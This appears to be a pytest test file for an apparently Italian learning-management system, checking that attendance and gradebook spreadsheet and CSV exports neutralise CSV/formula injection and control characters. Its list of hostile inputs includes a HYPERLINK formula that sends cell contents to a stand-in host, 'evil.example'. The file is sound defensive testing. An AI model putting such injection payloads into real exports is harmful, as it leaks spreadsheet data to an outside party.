"""Data that looks like a formula or holds control characters never becomes a live formula
or a 500 in any XLSX or CSV export (attendance and gradebook), on either database."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from lms.accounts.models import Role, User
from lms.db import db
from lms.organisations.models import Organisation
from tests.functional.test_courses_pages import build

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A4,"Apri")',
    "+SUM(1,2)",
    "@cmd",
    "Titolo\x0bcon tab verticale",
    "Nome\x1b[31m rosso\x07",
]


def _formulas(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "".join(
            z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")
        )
    return xml.count("<f>") + xml.count("<f ")


@pytest.mark.parametrize("text", HOSTILE)
def test_attendance_and_gradebook_exports_stay_text(app, make, login_as, text):
    trainer = make.user(Role.TRAINER)
    course, _lessons, enrolments = build(make, trainer, 2, 1)
    course.title = text[:200]
    trainee = db.session.get(User, enrolments[0].user_id)
    trainee.full_name = text[:200]
    db.session.get(Organisation, trainee.organisation_id).name = (text + " S.p.A.")[:200]
    db.session.commit()
    client = login_as(trainer)
    for url in (
        f"/percorsi/{course.id}/presenze.xlsx",
        f"/percorsi/{course.id}/voti.xlsx",
    ):
        resp = client.get(url)
        assert resp.status_code == 200, url
        assert _formulas(resp.data) == 0
        ws = load_workbook(io.BytesIO(resp.data)).worksheets[0]
        cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert all(c.data_type == "s" for c in cells)
        assert not any(c.value.startswith("'") for c in cells)
        assert not any(ch in (c.value or "") for c in cells for ch in "\x0b\x1b\x07")
    for url in (f"/percorsi/{course.id}/presenze.csv", f"/percorsi/{course.id}/voti.csv"):
        resp = client.get(url)
        assert resp.status_code == 200, url
        body = resp.data.decode("utf-8-sig")
        assert not any(ch in body for ch in "\x0b\x1b\x07")
        for line in body.splitlines():
            for cell in line.split(";"):
                assert not cell.strip('"').startswith(("=", "+", "@")), cell
